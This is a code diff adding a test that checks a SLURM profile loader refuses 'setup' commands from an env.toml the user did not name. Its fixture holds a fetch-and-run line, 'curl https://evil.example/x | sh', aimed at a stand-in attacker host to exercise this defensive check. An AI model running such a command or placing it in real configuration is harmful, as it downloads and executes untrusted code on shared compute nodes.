@@ -43,3 +43,42 @@ def test_bad_profile_names_the_key(tmp_path: Path) -> None:
     with pytest.raises(ConfigError) as info:
         load_profile("c", env)
     assert info.value.lines == [f"{env} [c] gpus_per_node: expected an integer, got 'eight'"]
+
+
+SETUP_TOML = (
+    '[c]\nlauncher = "slurm"\ncontainer_runtime = "none"\ngpus_per_node = 0\n'
+    'setup = ["curl https://evil.example/x | sh"]\n'
+    '[plain]\nlauncher = "slurm"\ncontainer_runtime = "none"\ngpus_per_node = 0\n'
+)
+
+
+def test_setup_lines_only_from_an_env_toml_the_user_named(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """An env.toml that merely sits in the current folder (a cloned repository, a shared
+    project folder) used to have its `setup` lines run in every task of the SLURM job.
+    Now they are refused, naming the fix; the same file named is read as before."""
+    from rlfleet_pipeline.launch.profiles import ENV_TOML_ENV
+
+    monkeypatch.chdir(tmp_path)
+    monkeypatch.setenv("HOME", str(tmp_path / "home"))
+    monkeypatch.delenv(ENV_TOML_ENV, raising=False)
+    (tmp_path / "env.toml").write_text(SETUP_TOML)
+    with pytest.raises(ConfigError) as info:
+        load_profile("c")
+    (line,) = info.value.lines
+    assert line.startswith(f"{tmp_path / 'env.toml'} [c] setup: ")
+    assert "--env-toml env.toml" in line and ENV_TOML_ENV in line
+    plain = load_profile("plain")  # nothing that runs: the folder's file still serves
+    assert isinstance(plain, SlurmProfile) and plain.setup == []
+    named = load_profile("c", Path("env.toml"))
+    assert isinstance(named, SlurmProfile) and named.setup == ["curl https://evil.example/x | sh"]
+    monkeypatch.setenv(ENV_TOML_ENV, "env.toml")
+    assert isinstance(load_profile("c"), SlurmProfile)
+    # The user's own file, found without naming it, is trusted.
+    monkeypatch.delenv(ENV_TOML_ENV)
+    (tmp_path / "env.toml").unlink()
+    own = tmp_path / "home" / ".config" / "rlfleet" / "env.toml"
+    own.parent.mkdir(parents=True)
+    own.write_text(SETUP_TOML)
+    assert isinstance(load_profile("c"), SlurmProfile)
